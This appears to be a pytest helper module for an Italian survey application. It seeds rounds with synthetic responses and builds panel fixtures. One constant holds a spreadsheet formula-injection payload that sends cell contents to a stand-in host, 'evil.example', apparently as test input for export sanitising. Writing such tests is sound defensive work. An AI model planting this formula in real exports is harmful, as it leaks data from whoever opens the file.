"""Helpers of the results tests: rounds filled with small, controlled sets of responses."""

from __future__ import annotations

import dataclasses
import random
import uuid
from datetime import datetime

import pytest
import sqlalchemy as sa

from conftest import IN_SHIPPED_PLAN, give_shipped_plan
from survey_app.db import get_session
from survey_app.demo import synthetic_submission
from survey_app.models import Ambito, Comune, PanelCode, Round
from survey_app.respond.submission import response_from_submission

HOUR = datetime(2023, 10, 3, 9)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "clic")'


def add_responses(app, round_id: int, count: int, *, seed: int = 1, shift: float = 0.0,
                  comune: str | None = None, service: str | None = None,
                  comment: str | None = None, panel_code_ids: list[int] | None = None,
                  answers: dict | None = None) -> None:
    """Store *count* synthetic responses in round *round_id*.

    :param comune: a comune code for every response (by default, chosen at random).
    :param answers: item id -> value overriding the synthetic answers (``None`` = non so).
    """
    rng = random.Random(seed)
    with app.app_context():
        session = get_session()
        round_ = session.get(Round, round_id)
        questionnaire = round_.questionnaire_version.questionnaire
        comuni = {c.code: c.id for c in round_.ambito.comuni}
        for i in range(count):
            submission = synthetic_submission(rng, questionnaire, comuni, shift)
            changes = {"submission_id": str(uuid.uuid4())}
            if comune is not None:
                changes["comune_id"] = comuni[comune]
            if service is not None:
                changes["service"] = service
            if comment is not None and i == 0:
                changes["comment"] = comment
            if panel_code_ids is not None:
                changes["panel_code_id"] = panel_code_ids[i]
            if answers:
                changes["answers"] = submission.answers | answers
            submission = dataclasses.replace(submission, **changes)
            session.add(response_from_submission(round_id, submission, HOUR))
        session.commit()


@pytest.fixture
def fill(app):
    """``fill(round_id, count, **options)``: see :func:`add_responses`."""
    return lambda round_id, count, **options: add_responses(app, round_id, count, **options)


@pytest.fixture
def foreign_round(app):
    """A round of another Ambito, with 6 responses."""
    from survey_app.rounds.operations import open_round

    with app.app_context():
        session = get_session()
        other = Ambito(code="basso-sebino", name="Basso Sebino", comuni=[Comune(code="sarnico", name="Sarnico")])
        session.add(other)
        session.flush()
        give_shipped_plan(session, other)
        round_ = open_round(session, "persona-al-centro", "ex-post", ambito_code="basso-sebino",
                            opens_at=IN_SHIPPED_PLAN)
        session.commit()
        round_id = round_.id
    add_responses(app, round_id, 6)
    return round_id


@pytest.fixture
def panel_rounds(app):
    """Two rounds of one panel (ex ante, ex post) and 12 codes used in both: (before, after)."""
    from survey_app.panels.operations import create_panel, issue_codes
    from survey_app.rounds.operations import open_round

    with app.app_context():
        session = get_session()
        ambito = session.scalar(sa.select(Ambito).where(Ambito.code == "alto-sebino")) \
            or session.scalar(sa.select(Ambito))
        panel = create_panel(session, ambito, "Tessere di prova", actor="test")
        issue_codes(session, panel, 12, actor="test")
        before = open_round(session, "persona-al-centro", "ex-ante", ambito_code=ambito.code,
                            panel=panel, opens_at=IN_SHIPPED_PLAN)
        after = open_round(session, "persona-al-centro", "ex-post", ambito_code=ambito.code,
                           panel=panel, opens_at=datetime(2023, 12, 1))
        session.commit()
        code_ids = list(session.scalars(sa.select(PanelCode.id)
                                        .where(PanelCode.panel_id == panel.id)
                                        .order_by(PanelCode.id)))
        ids = (before.id, after.id)
    add_responses(app, ids[0], 12, seed=3, panel_code_ids=code_ids)
    add_responses(app, ids[1], 12, seed=4, shift=0.8, panel_code_ids=code_ids)
    return ids
